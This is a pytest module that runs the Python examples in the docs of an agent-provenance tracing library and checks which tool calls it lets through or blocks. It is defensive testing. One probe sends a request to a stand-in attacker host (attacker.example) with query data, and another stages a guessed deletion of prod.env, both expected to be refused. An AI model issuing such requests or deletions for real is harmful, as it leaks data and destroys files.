"""Every ```python block of README.md and docs/*.md is run as written, or is marked on its page as a
fragment, so a block that drifts from the code fails here.

The blocks are found by parsing the markdown (fences inside lists and quotes too), never copied. Each
block has a check below, found by a line of its own text (``needle``), or the line right before its
fence is ``<!-- fragment: why -->``; a block with neither fails the first test, so a new block cannot
go unnoticed. A fragment is at least compiled. A block run by another test (the README's, two of
test_docs_snippets.py's, the framework tests' ``doc_snippet``) is checked to be the text that test runs.

A block runs in a fresh process (``sys.executable``), in an empty folder, with no ``OTEL_*`` variable
but the ones its check names. ``driver.py`` runs, in one namespace: a small ``prelude`` (the names and
files the block takes from its page or its reader: a stub model, a contract file, a person answering
"y"), then the block from its own file ``block.py`` (so a traceback names its lines), then a ``probe``
that makes what the block's comments claim visible (a tool call, the exported span). A block written
as the body of a coroutine (``await`` at the top) is run as ``python -m asyncio`` would. A block that
exports OTLP sends it to a loopback receiver (tests/otlp_receiver.py).
"""

from __future__ import annotations

import importlib
import json
import os
import re
import subprocess
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from opentelemetry.proto.collector.logs.v1 import logs_service_pb2
from opentelemetry.proto.collector.trace.v1 import trace_service_pb2

from interop import _has_current_logs_sdk, require
from otlp_receiver import OtlpReceiver

ROOT = Path(__file__).resolve().parents[2]
PAGES = [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]
MARKER = re.compile(r"^<!--\s*fragment:\s*(?P<why>\S.*?)\s*-->$")
OPEN = re.compile(r"^(?P<prefix>(?:[ \t]*>)*[ \t]*)(?P<fence>`{3,}|~{3,})[ \t]*(?P<info>[^`\s]*)[^`]*$")


@dataclass(frozen=True)
class Block:
    page: str  # README.md, docs/guard.md
    line: int  # of the opening fence, 1-based
    code: str
    fragment: str | None  # the marker's reason

    @property
    def id(self) -> str:
        return f"{self.page}:{self.line}"

    def line_of(self, text: str) -> int:
        """The block's only line (1-based, in block.py) holding ``text``."""
        (number,) = [n for n, line in enumerate(self.code.splitlines(), 1) if text in line]
        return number


def _unquote(line: str, prefix: str) -> str:
    """``line`` without the container ``prefix`` (a list's indent, a quote's ``>``) of its fence."""
    if line.startswith(prefix):
        return line[len(prefix) :]
    if line.strip() in ("", ">"):
        return ""
    return line.lstrip(" \t>")


def parse(path: Path) -> list[Block]:
    """The ```python blocks of a page, in order: fenced code at any depth of quotes and lists."""
    lines = path.read_text(encoding="utf-8").splitlines()
    blocks, n = [], 0
    while n < len(lines):
        opening = OPEN.match(lines[n])
        if not opening:
            n += 1
            continue
        prefix, fence = opening["prefix"], opening["fence"]
        body, end = [], n + 1
        while end < len(lines):
            inner = _unquote(lines[end], prefix)
            if inner.strip().startswith(fence) and set(inner.strip()) == {fence[0]}:
                break
            body.append(inner)
            end += 1
        if opening["info"] == "python":
            before = _unquote(lines[n - 1], prefix).strip() if n else ""
            marked = MARKER.match(before)
            blocks.append(
                Block(
                    str(path.relative_to(ROOT)),
                    n + 1,
                    "".join(line + "\n" for line in body),
                    marked["why"] if marked else None,
                )
            )
        n = end + 1
    return blocks


BLOCKS = [block for page in PAGES for block in parse(page)]


# --- running a block --------------------------------------------------------------------------------

DRIVER = """\
import ast, asyncio, sys

def _exec(source, filename, namespace):
    code = compile(source, filename, "exec", flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)
    pending = eval(code, namespace)
    if pending is not None:  # the block (or probe) awaits at its top: a coroutine's body
        asyncio.run(pending)

namespace = {"__name__": "__main__", "__file__": BLOCK, "__builtins__": __builtins__}
_exec(PRELUDE, "<prelude>", namespace)
with open(BLOCK, encoding="utf-8") as file:
    _exec(file.read(), BLOCK, namespace)
_exec(PROBE, "<probe>", namespace)
"""


@dataclass
class Ran:
    done: subprocess.CompletedProcess[str]
    cwd: Path
    block_file: str

    @property
    def facts(self) -> dict[str, Any]:
        """What the probe printed as ``FACTS {json}``."""
        (line,) = [line for line in self.done.stdout.splitlines() if line.startswith("FACTS ")]
        return json.loads(line.removeprefix("FACTS "))

    def ok(self) -> Ran:
        assert self.done.returncode == 0, self.done.stdout + self.done.stderr
        return self

    def raised_at(self, block: Block, comment: str, last_line: str) -> None:
        """The run ended in an uncaught exception whose last line is ``last_line``, raised by the
        block's line that holds ``comment`` (the line whose comment says it raises)."""
        err = self.done.stderr
        assert self.done.returncode == 1, err
        assert err.rstrip().splitlines()[-1] == last_line, err
        lines = re.findall(rf'File "{re.escape(self.block_file)}", line (\d+)', err)
        assert lines and int(lines[-1]) == block.line_of(comment), err

    def spans(self, name: str = "otel-provenance-spans.jsonl") -> list[dict[str, Any]]:
        """The tool spans of an OTLP JSON Lines file the block wrote, in start order."""
        return _tool_spans(
            span | {"resource": resource.get("resource", {})}
            for line in (self.cwd / name).read_text().splitlines()
            for resource in json.loads(line)["resourceSpans"]
            for scope in resource["scopeSpans"]
            for span in scope["spans"]
        )


def _value(value: dict[str, Any]) -> Any:
    (kind, item), *_ = value.items() or [(None, None)]
    if kind == "arrayValue":
        return [_value(v) for v in item.get("values", [])]
    return int(item) if kind == "intValue" else item


def _attributes(item: dict[str, Any]) -> dict[str, Any]:
    return {a["key"]: _value(a["value"]) for a in item.get("attributes", [])}


def _tool_spans(spans) -> list[dict[str, Any]]:
    """Each span but a run's ``invoke_agent`` as {name, attributes, resource attributes}, in start
    order."""
    return [
        {"name": s["name"], "attributes": _attributes(s), "resource": _attributes(s["resource"])}
        for s in sorted(spans, key=lambda s: int(s["startTimeUnixNano"]))
        if not s["name"].startswith("invoke_agent")
    ]


def _received_spans(receiver: OtlpReceiver) -> list[dict[str, Any]]:
    from google.protobuf.json_format import MessageToDict

    spans = []
    for body in receiver.bodies["/v1/traces"]:
        request = MessageToDict(trace_service_pb2.ExportTraceServiceRequest.FromString(body))
        spans += [
            span | {"resource": resource.get("resource", {})}
            for resource in request["resourceSpans"]
            for scope in resource["scopeSpans"]
            for span in scope["spans"]
        ]
    return _tool_spans(spans)


def run(block: Block, tmp_path: Path, prelude: str = "", probe: str = "", env: dict | None = None) -> Ran:
    """The block as written, after ``prelude`` and before ``probe``, in a fresh process whose
    working folder is empty but for ``notes.txt`` (a file for a listing to find)."""
    code, cwd = tmp_path / "code", tmp_path / "cwd"
    code.mkdir(parents=True)
    cwd.mkdir()
    (cwd / "notes.txt").write_text("a file for list_files to list\n")
    block_file = str(code / "block.py")
    (code / "block.py").write_text(block.code)
    (code / "driver.py").write_text(
        f"BLOCK = {block_file!r}\nPRELUDE = {textwrap.dedent(prelude)!r}\n"
        f"PROBE = {textwrap.dedent(probe)!r}\n{DRIVER}"
    )
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("OTEL_", "PYTEST"))}
    done = subprocess.run(
        [sys.executable, str(code / "driver.py")],
        cwd=cwd,
        env=clean | (env or {}),
        capture_output=True,
        text=True,
        timeout=120,
    )
    return Ran(done, cwd, block_file)


# --- preludes and probes shared by several blocks -----------------------------------------------------

PERSON = "import builtins\nbuiltins.input = lambda prompt: print('ASKED', prompt) or 'y'\n"
CONTRACT = """\
name: refunds
version: 1
rules:
  - {id: refund-once, type: cardinality, code: DUPLICATE_SIDE_EFFECT, select: {step: payment.refund}, max: 1}
"""
# traces of release v2 in traces.jsonl: two runs, each refunding two orders (the contract allows one)
TRACES = """
import gzip as _gzip, shutil as _shutil
import otel_provenance as _op
from opentelemetry.sdk.resources import Resource as _Resource
from opentelemetry.sdk.trace import TracerProvider as _TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor as _Simple

_provider = _TracerProvider(resource=_Resource.create({"service.name": "refunds", "service.version": "v2"}))
_provider.add_span_processor(_op.ProvenanceSpanProcessor(_Simple(_op.JsonLinesSpanExporter("traces.jsonl"))))

@_op.tool(name="payment.refund", side_effect="write", tracer_provider=_provider)
def _refund(order_id: str) -> dict:
    return {"refunded": order_id}

for _ in range(2):
    with _op.run(inputs={"orders": ["ord-1", "ord-2"]}, agent_name="refunds", tracer_provider=_provider):
        _refund(order_id="ord-1")
        _refund(order_id="ord-2")
_provider.shutdown()
"""
# a span of the application's own with content on it (OpenInference's input) beside a plain attribute;
# then the global provider is shut down, which exports it
CONTENT_SPAN = """
from opentelemetry import trace as _trace
with _trace.get_tracer("app").start_as_current_span("handle refund") as _span:
    _span.set_attribute("input.value", "SECRET PROMPT")
    _span.set_attribute("app.order", "ord-1")
_trace.get_tracer_provider().shutdown()
"""


def _span_has_no_content(span: dict[str, Any]) -> None:
    assert span["name"] == "handle refund"
    assert span["attributes"] == {"app.order": "ord-1"}  # the content key removed, the other kept


# --- the checks ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Check:
    page: str
    needle: str  # text only this block of the page holds
    test: Callable[[Block, Path], None] | None = None  # runs the block (None: run by `elsewhere`)
    elsewhere: Callable[[], str] | None = None  # another test's extraction of the block it runs
    needs: tuple[str, ...] = field(default=())  # optional modules (skipped where not installed)


def _other_test(module: str, name: str, *args: str) -> Callable[[], str]:
    def extract() -> str:
        return getattr(importlib.import_module(module), name)(*args)

    return extract


def design_online_api(block: Block, tmp_path: Path) -> None:
    with OtlpReceiver() as receiver:
        ran = run(block, tmp_path, env={"OTEL_EXPORTER_OTLP_ENDPOINT": receiver.url})
    ran.raised_at(
        block,
        "raises op.ProvenanceError",
        "otel_provenance.errors.ProvenanceError: patch_file: blocked by provenance budget "
        "(max_assumed:path=assumed)",
    )
    spans = _received_spans(receiver)  # exported over OTLP when the process ended
    assert [(s["name"], s["attributes"]["agent.tool.status"]) for s in spans if "tool" in s["name"]] == [
        ("execute_tool list_files", "ok"),
        ("execute_tool patch_file", "ok"),  # path: observed
        ("execute_tool patch_file", "blocked"),  # the body never ran
    ]
    assert all(b"prod.env" not in body for body in receiver.bodies["/v1/traces"])


def contracts_python_api(block: Block, tmp_path: Path) -> None:
    prelude = f"open('contract.yaml', 'w').write({CONTRACT!r})\n{TRACES}"
    ran = run(
        block, tmp_path, prelude, probe="print('FACTS', __import__('json').dumps(str(result.decision)))"
    )
    ran.ok()
    assert "refund-once" in ran.done.stdout  # the text report names the failed rule
    assert "fail" in ran.facts.lower()  # two refunds in a run that may make one
    assert ran.done.stdout.split("FACTS")[0].rstrip().endswith(str(ran.facts))  # printed after the text


def agents_sdk(block: Block, tmp_path: Path) -> None:
    probe = """
    import asyncio, json
    from agents.tool_context import ToolContext
    def invoke(path):  # as the SDK calls a tool the model asked for
        arguments = json.dumps({"path": path})
        ctx = ToolContext(context=None, tool_name="delete_file", tool_call_id="c1", tool_arguments=arguments)
        return asyncio.run(delete_file.on_invoke_tool(ctx, arguments))
    with op.run(inputs={"path": "report.txt"}):
        print("FACTS", json.dumps([invoke("report.txt"), invoke("prod.env")]))
    """
    ran = run(block, tmp_path, probe=probe).ok()
    # the sourced call ran (its body returns nothing); the guess reached the model as explain_block's text
    assert ran.facts == [None, "delete_file: blocked by provenance budget (max_assumed:path=assumed)"]


def langchain(block: Block, tmp_path: Path) -> None:
    probe = """
    import json
    with op.run(inputs={"path": "report.txt"}):
        ran = delete_file.invoke({"path": "report.txt"})
        call = {"type": "tool_call", "id": "c1", "name": "delete_file", "args": {"path": "prod.env"}}
        message = delete_file.invoke(call)
    print("FACTS", json.dumps([ran, type(message).__name__, message.status, message.content]))
    """
    ran = run(block, tmp_path, probe=probe).ok()
    assert ran.facts == [
        None,  # the sourced call ran
        "ToolMessage",  # the blocked one is a tool error the model reads, not an exception
        "error",
        "delete_file: blocked by provenance budget (max_assumed:path=assumed)",
    ]


def pydantic_ai(block: Block, tmp_path: Path) -> None:
    prelude = """
    from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart
    from pydantic_ai.models.function import FunctionModel
    seen, script = [], [("delete_file", {"path": "report.txt"}), ("delete_file", {"path": "prod.env"})]
    def respond(messages, info):  # the model: the scripted tool calls, then "done"
        seen.extend(part for message in messages for part in message.parts)
        if script:
            name, arguments = script.pop(0)
            return ModelResponse(parts=[ToolCallPart(name, arguments, tool_call_id=f"c{len(script)}")])
        return ModelResponse(parts=[TextPart("done")])
    model = FunctionModel(respond)
    """
    probe = """
    import json
    from pydantic_ai.messages import ToolReturnPart
    with op.run(inputs={"path": "report.txt"}):
        output = agent.run_sync("tidy up").output
    returns = [str(p.content) for p in seen if isinstance(p, ToolReturnPart) and p.tool_name == "delete_file"]
    print("FACTS", json.dumps([output, returns[-1]]))
    """
    ran = run(block, tmp_path, prelude, probe).ok()
    # the run went on after the refusal, which the model got as the failed tool's result
    assert ran.facts == ["done", "delete_file: blocked by provenance budget (max_assumed:path=assumed)"]


def guard_contract(block: Block, tmp_path: Path) -> None:
    prelude = f"open('contract.yaml', 'w').write({CONTRACT!r})\norder_id = 'ord-1001'\n"
    probe = """
    import json
    @op.tool(name="payment.refund", side_effect="write")
    def refund(order_id: str) -> dict:
        return {"refunded": order_id}
    refusal = None
    with op.run(inputs={"order_id": order_id}):  # a run that names no contract: op.configure's judges it
        refund(order_id=order_id)
        try:
            refund(order_id=order_id)
        except op.ProvenanceError as error:
            refusal = str(error)
    print("FACTS", json.dumps(refusal))
    """
    ran = run(block, tmp_path, prelude, probe).ok()
    assert "contract:refund-once:DUPLICATE_SIDE_EFFECT" in ran.facts  # the second refund, refused
    assert [s["attributes"]["agent.tool.status"] for s in ran.spans()] == ["ok", "blocked"]


def mcp_session(block: Block, tmp_path: Path) -> None:
    server = ROOT / "examples" / "mcp_billing" / "billing_server.py"
    prelude = f"""
    import os, sys
    import otel_provenance as op
    from mcp import StdioServerParameters
    op.configure()  # the spans, to ./otel-provenance-spans.jsonl
    params = StdioServerParameters(  # the billing server: list_invoices, refund_invoice
        command=sys.executable,
        args=[{str(server)!r}],
        env={{"BILLING_RECORD": os.path.abspath("record.jsonl")}},
    )
    """
    ran = run(block, tmp_path, prelude).ok()  # the guessed refund is an error result, not an exception
    received = [json.loads(line) for line in (ran.cwd / "record.jsonl").read_text().splitlines()]
    assert received == [  # the server never received the guessed refund
        {"tool": "list_invoices", "arguments": {"customer": "acme"}},
        {"tool": "refund_invoice", "arguments": {"invoice_id": "INV-4521", "reason": "duplicate"}},
    ]
    spans = [s for s in ran.spans() if s["name"].startswith("execute_tool")]  # not the MCP SDK's own
    assert [(s["name"], s["attributes"]["agent.tool.status"]) for s in spans] == [
        ("execute_tool list_invoices", "ok"),  # read-only: runs
        ("execute_tool refund_invoice", "ok"),  # observed: runs
        ("execute_tool refund_invoice", "blocked"),
    ]
    assert spans[2]["attributes"]["agent.violations"] == ["max_assumed:invoice_id=assumed"]


def mcp_client_gate(block: Block, tmp_path: Path) -> None:
    prelude = "import otel_provenance as op\nop.configure()  # the spans, to ./otel-provenance-spans.jsonl\n"
    probe = """
    import json
    class Service:  # the remote side: what it was asked
        calls = []
        async def call(self, name, args):
            self.calls.append([name, args])
            return {"invoices": [{"id": "INV-1"}]} if name == "list_invoices" else {"ok": True}
    service, refusal = Service(), None
    client = GatedRpcClient(service, {"list_invoices": "read", "refund": "write"})
    with op.run(inputs={"customer": "acme"}):
        await client.call("list_invoices", {"customer": "acme"})
        await client.call("refund", {"invoice_id": "INV-1"})  # observed in the remembered result
        try:
            await client.call("refund", {"invoice_id": "INV-9"})
        except op.ProvenanceError as error:
            refusal = str(error)
    print("FACTS", json.dumps([service.calls, refusal]))
    """
    ran = run(block, tmp_path, prelude, probe).ok()
    calls, refusal = ran.facts
    assert calls == [["list_invoices", {"customer": "acme"}], ["refund", {"invoice_id": "INV-1"}]]
    assert refusal == "refund: blocked by provenance budget (max_assumed:invoice_id=assumed)"
    spans = ran.spans()
    assert [(s["name"], s["attributes"]["agent.tool.status"]) for s in spans] == [
        ("execute_tool list_invoices", "ok"),
        ("execute_tool refund", "ok"),
        ("execute_tool refund", "blocked"),  # the span ends as blocked
    ]
    assert {s["attributes"]["gen_ai.tool.type"] for s in spans} == {"extension"}


def metrics_own_provider(block: Block, tmp_path: Path) -> None:
    prelude = """
    from opentelemetry.sdk.metrics import MeterProvider
    from opentelemetry.sdk.metrics.export import InMemoryMetricReader
    reader = InMemoryMetricReader()
    my_meter_provider = MeterProvider(metric_readers=[reader])
    """
    probe = """
    import json
    @op.tool(side_effect="read")
    def lookup(order_id: str) -> dict:
        return {"order_id": order_id}
    def calls():  # agent.tool.calls as my_meter_provider has it
        data = reader.get_metrics_data()
        return sum(
            point.value
            for resource in (data.resource_metrics if data else [])
            for scope in resource.scope_metrics
            for metric in scope.metrics if metric.name == "agent.tool.calls"
            for point in metric.data.data_points
        )
    with op.run(inputs={"order_id": "ord-1"}):
        lookup(order_id="ord-1")
    counted = calls()
    op.use_meter_provider(None)
    with op.run(inputs={"order_id": "ord-1"}):
        lookup(order_id="ord-1")
    print("FACTS", json.dumps([counted, calls()]))
    """
    ran = run(block, tmp_path, prelude, probe).ok()
    assert ran.facts == [1, 1]  # counted in my_meter_provider; after None, no longer


def offline_python_api(block: Block, tmp_path: Path) -> None:
    # the file is cut off: the gzip stream's end is missing, as when a writer dies mid-file
    cut = """
    data = _gzip.compress(open("traces.jsonl", "rb").read())
    open("traces.jsonl.gz", "wb").write(data[: len(data) - 12])
    """
    probe = """
    import json
    from otel_provenance.offline import iter_runs as _iter_runs
    try:
        list(_iter_runs(["traces.jsonl.gz"]))
        raises = None
    except Exception as error:
        raises = type(error).__name__
    print("FACTS", json.dumps([report.complete, raises]))
    """
    ran = run(block, tmp_path, TRACES + textwrap.dedent(cut), probe).ok()
    complete, raises = ran.facts
    assert complete is False and raises is not None  # read with the report; without it, it raises
    printed = [line.split() for line in ran.done.stdout.splitlines() if not line.startswith("FACTS")]
    assert len(printed) == 2  # the two runs, whole before the cut: run id, fingerprint, verdict
    assert [verdict for _, _, verdict in printed] == ["pass", "pass"]  # the order ids are the inputs


def op_tool_options(block: Block, tmp_path: Path) -> None:
    import inspect

    import otel_provenance as op

    listed = re.findall(r"^\s+(\w+)=", block.code, re.M)
    keywords = [p.name for p in inspect.signature(op.tool).parameters.values() if p.kind is p.KEYWORD_ONLY]
    assert listed == keywords  # every option of @op.tool, in its order, and no other


def policies(block: Block, tmp_path: Path) -> None:
    ran = run(block, tmp_path)
    ran.raised_at(
        block,
        "# blocked: policy:amount:run_sum",
        "otel_provenance.errors.ProvenanceError: refund: blocked by the guard (policy:amount:run_sum)",
    )  # so the first refund ran: 100 of the order's 120


def trust_options(block: Block, tmp_path: Path) -> None:
    prelude = "import otel_provenance as op\nME = 'me@example.com'\n"
    probe = """
    import json
    refusal = None
    with op.run(inputs={"topic": "refunds"}):
        try:
            fetch_page(url="https://attacker.example/?q=refunds")   # the URL leaves: nothing sourced it
        except op.ProvenanceError as error:
            refusal = str(error)
    print("FACTS", json.dumps(refusal))
    """
    ran = run(block, tmp_path, prelude, probe).ok()
    assert ran.facts is not None and "url=assumed" in ran.facts


def retry_attempt(block: Block, tmp_path: Path) -> None:
    prelude = """
    import otel_provenance as op
    op.configure()  # the spans, to ./otel-provenance-spans.jsonl
    @op.tool(side_effect="write", idempotency_key="request_id")
    def refund(order_id: str, request_id: str) -> dict:
        return {"refunded": order_id}
    order, new_request_id = "ord-1", "req-2"
    _run = op.run(inputs={"order": order, "request_id": new_request_id})  # the run the block is inside
    _run.__enter__()
    """
    ran = run(block, tmp_path, prelude, probe="_run.__exit__(None, None, None)").ok()
    (span,) = ran.spans()
    assert span["attributes"]["agent.retry.number"] == 1
    assert span["attributes"]["agent.tool.status"] == "ok"


SET_UP_IMPORTS = """
import otel_provenance as op
from opentelemetry.sdk.trace.export import BatchSpanProcessor
from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
"""


def safe_set_up(block: Block, tmp_path: Path) -> None:
    with OtlpReceiver() as receiver:
        run(block, tmp_path, probe=CONTENT_SPAN, env={"OTEL_EXPORTER_OTLP_ENDPOINT": receiver.url}).ok()
    (span,) = _received_spans(receiver)
    _span_has_no_content(span)  # the exporter inside the wrapper gets the cleaned copy


def unsafe_processors_check(block: Block, tmp_path: Path) -> None:
    (set_up,) = [b for b in BLOCKS if b.page == "docs/stripping.md" and "# exporters go INSIDE" in b.code]
    safe = run(block, tmp_path / "safe", prelude=set_up.code)
    safe.ok()  # the assert holds for the set-up above
    beside = set_up.code + (
        "from opentelemetry.sdk.trace.export import SimpleSpanProcessor, ConsoleSpanExporter\n"
        "provider.add_span_processor(SimpleSpanProcessor(ConsoleSpanExporter()))  # beside the wrapper\n"
    )
    leaky = run(block, tmp_path / "leaky", prelude=beside)
    leaky.raised_at(block, "assert unsafe_processors", "AssertionError")


def log_set_up(block: Block, tmp_path: Path) -> None:
    if not _has_current_logs_sdk():
        pytest.skip("logs processor needs opentelemetry-sdk >= 1.39")
    probe = """
    logger_provider.get_logger("app").emit(
        body="refund failed", attributes={"input.value": "SECRET PROMPT", "app.order": "ord-1"}
    )
    logger_provider.shutdown()
    """
    with OtlpReceiver("/v1/logs") as receiver:
        run(
            block,
            tmp_path,
            "import otel_provenance as op\n",
            probe,
            {"OTEL_EXPORTER_OTLP_ENDPOINT": receiver.url},
        ).ok()
    (body,) = receiver.bodies["/v1/logs"]
    request = logs_service_pb2.ExportLogsServiceRequest.FromString(body)
    (record,) = [r for rl in request.resource_logs for sl in rl.scope_logs for r in sl.log_records]
    assert {a.key: a.value.string_value for a in record.attributes} == {"app.order": "ord-1"}
    assert b"SECRET PROMPT" not in body


def strip_options(block: Block, tmp_path: Path) -> None:
    probe = """
    import json
    from opentelemetry.sdk.trace import TracerProvider
    from opentelemetry.sdk.trace.export import SimpleSpanProcessor
    from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
    exported = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(op.ProvenanceSpanProcessor(SimpleSpanProcessor(exported), options=options))
    tracer = provider.get_tracer("app")
    with tracer.start_as_current_span("handle refund") as span:  # the application's own span
        for key in ("myapp.customer_note", "myapp.customer_note.text", "corp.pii_ssn", "db.password",
                    "app.order"):
            span.set_attribute(key, "v")
        span.add_event("myapp.chat.turn", {"text": "hi"})
        span.add_event("app.step")
    with tracer.start_as_current_span("chat") as span:  # a model call's span
        for key in ("gen_ai.operation.name", "gen_ai.tool.description", "gen_ai.input.messages"):
            span.set_attribute(key, "v")
    spans = exported.get_finished_spans()
    print("FACTS", json.dumps([[sorted(s.attributes), [e.name for e in s.events]] for s in spans]))
    """
    ran = run(block, tmp_path, SET_UP_IMPORTS, probe).ok()
    assert ran.facts == [
        [["app.order"], ["app.step"]],  # the key, its children, the prefix, the pattern; the event, whole
        [["gen_ai.operation.name", "gen_ai.tool.description"], []],  # the description allowed back
    ]


def foreign_tools(block: Block, tmp_path: Path) -> None:
    keep = """
    made = []
    class _Kept(op.ProvenanceSpanProcessor):  # the processor the block builds, kept for the probe
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            made.append(self)
    op.ProvenanceSpanProcessor = _Kept
    """
    probe = """
    import json
    from opentelemetry.sdk.trace import TracerProvider
    provider = TracerProvider()
    provider.add_span_processor(made[-1])
    with provider.get_tracer("other").start_as_current_span("execute_tool wire_money") as span:
        span.set_attribute("gen_ai.operation.name", "execute_tool")
        span.set_attribute("gen_ai.tool.name", "wire_money")
        span.set_attribute("gen_ai.tool.call.arguments", json.dumps({"iban": "NL00BANK0123456789"}))
    provider.shutdown()
    """
    with OtlpReceiver() as receiver:
        env = {"OTEL_EXPORTER_OTLP_ENDPOINT": receiver.url}
        run(block, tmp_path, SET_UP_IMPORTS + textwrap.dedent(keep), probe, env).ok()
    (span,) = _received_spans(receiver)
    assert span["attributes"]["agent.side_effect"] == "write"
    # a foreign span's argument is named by its position (stripping.md), assumed: a violation, not a block
    assert span["attributes"]["agent.violations"] == ["max_assumed:arguments.0=assumed"]
    assert span["attributes"]["agent.tool.status"] == "ok"


def configure_defaults(block: Block, tmp_path: Path) -> None:
    probe = (
        "import json\nfrom opentelemetry import trace\n"
        "print('FACTS', json.dumps(trace.get_tracer_provider() is provider))\n" + CONTENT_SPAN
    )
    ran = run(block, tmp_path, "import otel_provenance as op\n", probe).ok()
    assert ran.facts is True  # set global and returned
    (span,) = ran.spans()  # no endpoint: an OTLP JSON Lines file
    assert span["resource"]["service.name"] == "refund-agent"
    assert span["resource"]["service.version"] == "2.0.0"
    _span_has_no_content(span)


def configure_from_environment(block: Block, tmp_path: Path) -> None:
    with OtlpReceiver() as receiver:
        env = {  # the variables the page exports just above, the receiver for signoz-host
            "OTEL_SERVICE_NAME": "refund-agent",
            "OTEL_RESOURCE_ATTRIBUTES": "service.version=2.0.0,deployment.environment=staging",
            "OTEL_EXPORTER_OTLP_ENDPOINT": receiver.url,
        }
        ran = run(block, tmp_path, probe=CONTENT_SPAN, env=env).ok()
    (span,) = _received_spans(receiver)  # sees the endpoint → OTLP
    assert {
        k: span["resource"][k] for k in ("service.name", "service.version", "deployment.environment")
    } == {
        "service.name": "refund-agent",
        "service.version": "2.0.0",
        "deployment.environment": "staging",
    }
    _span_has_no_content(span)  # stripped before it leaves
    assert not (ran.cwd / "otel-provenance-spans.jsonl").exists()


def configure_arguments(block: Block, tmp_path: Path) -> None:
    # no SigNoz here: the name signoz-host, port 4318, resolves to the loopback receiver
    with OtlpReceiver() as receiver:
        port = int(receiver.url.rsplit(":", 1)[1])
        prelude = f"""
        import socket
        import otel_provenance as op
        _resolve = socket.getaddrinfo
        def _signoz_here(host, port, *args, **kwargs):
            if (host, int(port)) == ("signoz-host", 4318):
                host, port = "127.0.0.1", {port}
            return _resolve(host, port, *args, **kwargs)
        socket.getaddrinfo = _signoz_here
        """
        run(block, tmp_path, prelude, CONTENT_SPAN).ok()
    (span,) = _received_spans(receiver)  # the receiver answers /v1/traces only: appended for HTTP
    _span_has_no_content(span)
    assert span["resource"]["service.name"] == "refund-agent"
    (headers,) = receiver.headers
    assert headers["signoz-ingestion-key"] == "<your-key>"
    assert headers["host"] == "signoz-host:4318"


def _framework_test(needle: str, heading: str) -> Check:
    """A frameworks.md block its framework's test runs as written (``framework_helpers_docs.doc_snippet``)."""
    return Check(
        "docs/frameworks.md", needle, elsewhere=_other_test("framework_helpers_docs", "doc_snippet", heading)
    )


CHECKS = [
    Check("README.md", "# One run, one trace", elsewhere=_other_test("test_readme_snippet", "_snippet")),
    Check("README.md", 'op.configure(service_name="refund-agent"', configure_defaults),
    Check("docs/DESIGN.md", "trace.set_tracer_provider(provider)", design_online_api, needs=("otlp",)),
    Check("docs/contracts.md", "check_release(iter_runs", contracts_python_api, needs=("yaml",)),
    Check("docs/frameworks.md", "from agents import function_tool", agents_sdk, needs=("agents",)),
    Check("docs/frameworks.md", "ToolException", langchain, needs=("langchain_core",)),
    Check("docs/frameworks.md", "ToolFailed", pydantic_ai, needs=("pydantic_ai",)),
    _framework_test("ToolCallingAgent", "smolagents"),
    _framework_test("google.adk", "Google ADK"),
    _framework_test("from strands", "Strands Agents"),
    _framework_test("autogen_agentchat", "Microsoft AutoGen AgentChat"),
    Check("docs/guard.md", 'op.configure(contract="contract.yaml")', guard_contract, needs=("yaml",)),
    Check(
        "docs/guard.md",
        "def approve(",
        elsewhere=_other_test("test_docs_snippets", "_snippet", "guard.md", "## Ask a person"),
    ),
    Check("docs/mcp.md", "stdio_client(params)", mcp_session, needs=("mcp",)),
    Check("docs/mcp.md", "class GatedRpcClient", mcp_client_gate),
    Check("docs/metrics.md", "op.use_meter_provider(my_meter_provider)", metrics_own_provider),
    Check("docs/offline.md", "ReadReport()", offline_python_api),
    Check(
        "docs/provenance.md",
        'agent_name="fixer"',
        elsewhere=_other_test("test_docs_snippets", "_first_block", "provenance.md"),
    ),
    Check("docs/provenance.md", "# or @op.tool(...) with any of:", op_tool_options),
    Check("docs/provenance.md", "run_sum", policies, needs=("jsonschema",)),
    Check("docs/provenance.md", "trusted_records=lambda mail", trust_options),
    Check("docs/provenance.md", "with retry_attempt(1):", retry_attempt),
    Check("docs/stripping.md", "# exporters go INSIDE", safe_set_up, needs=("otlp",)),
    Check(
        "docs/stripping.md",
        "assert unsafe_processors(provider) == []",
        unsafe_processors_check,
        needs=("otlp",),
    ),
    Check("docs/stripping.md", "ProvenanceLogRecordProcessor", log_set_up, needs=("otlp",)),
    Check("docs/stripping.md", "StripOptions(", strip_options, needs=("otlp",)),
    Check("docs/stripping.md", "foreign_side_effects", foreign_tools, needs=("otlp",)),
    Check("docs/stripping.md", 'provider = op.configure(service_name="refund-agent"', configure_defaults),
    Check(
        "docs/stripping.md",
        "op.configure()            # sees the endpoint",
        configure_from_environment,
        needs=("otlp",),
    ),
    Check("docs/stripping.md", 'endpoint="http://signoz-host:4318"', configure_arguments, needs=("otlp",)),
]
MODULES = {  # what `needs` names -> the module to import
    "otlp": "opentelemetry.exporter.otlp.proto.http.trace_exporter",
    "yaml": "yaml",
}


def _block_of(check: Check) -> Block:
    found = [b for b in BLOCKS if b.page == check.page and check.needle in b.code]
    assert len(found) == 1, f"{check.page}: {len(found)} python blocks hold {check.needle!r}"
    return found[0]


def _checks_of(block: Block) -> list[Check]:
    return [c for c in CHECKS if c.page == block.page and c.needle in block.code]


def test_the_pages_have_the_blocks_a_markdown_parser_finds():
    markdown_it = pytest.importorskip("markdown_it")
    for page in PAGES:
        tokens = markdown_it.MarkdownIt("commonmark").parse(page.read_text(encoding="utf-8"))

        def flat(tokens):
            for token in tokens:
                yield token
                yield from flat(token.children or [])

        fences = [t for t in flat(tokens) if t.type == "fence" and t.info.strip() == "python"]
        mine = [b for b in BLOCKS if b.page == str(page.relative_to(ROOT))]
        assert [t.content for t in fences] == [b.code for b in mine], page.name


@pytest.mark.parametrize("block", BLOCKS, ids=lambda b: b.id)
def test_every_block_is_run_or_marked_as_a_fragment(block):
    checks = _checks_of(block)
